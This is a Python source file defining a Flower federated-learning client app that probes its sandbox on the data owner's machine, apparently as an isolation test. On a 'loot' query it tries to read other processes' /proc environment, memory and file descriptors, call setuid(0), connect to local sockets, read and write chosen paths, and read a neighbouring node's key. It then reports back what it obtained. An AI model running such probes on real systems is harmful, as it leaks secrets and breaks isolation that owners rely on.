"""Runs on the data owner's machine, and tries everything that it can think of."""

import json
import os
import socket
from collections.abc import Callable
from pathlib import Path

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query("loot")
def loot(message: Message, context: Context) -> Message:
    """Return what each attempt came to."""
    wish = json.loads(str(message.content["order"]["wish"]))
    pid = wish["pid"]
    tried: dict[str, Callable[[], object]] = {}
    for path in wish["paths"]:
        tried[f"read {path}"] = lambda path=path: Path(path).read_bytes()[:64]
        tried[f"list {path}"] = lambda path=path: list(Path(path).iterdir())
        tried[f"write {path}"] = lambda path=path: Path(path, "x").write_text("x")
    for path in wish["sockets"]:
        tried[f"connect {path}"] = lambda path=path: _connected(path)
    tried["environment"] = lambda: Path(f"/proc/{pid}/environ").read_bytes()
    tried["memory"] = lambda: os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    tried["files"] = lambda: list(Path(f"/proc/{pid}/fd").iterdir())
    tried["signal"] = lambda: os.kill(pid, 0)
    tried["account"] = lambda: os.setuid(0)
    tried["orders"] = lambda: _connected(str(context.node_config["orders"]))
    tried["own key"] = lambda: Path(os.environ["HOME"]).parent.joinpath("node").read_bytes()[:30]
    found = {what: _outcome(attempt) for what, attempt in tried.items()}
    record = ConfigRecord({"found": json.dumps({"uid": os.getuid(), **found})})
    return Message(RecordDict({"loot": record}), reply_to=message)


def _connected(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(5)
        connection.connect(path)
    return "connected"


def _outcome(attempt: Callable[[], object]) -> str:
    try:
        return f"got {attempt()!r}"
    except OSError as error:
        return type(error).__name__
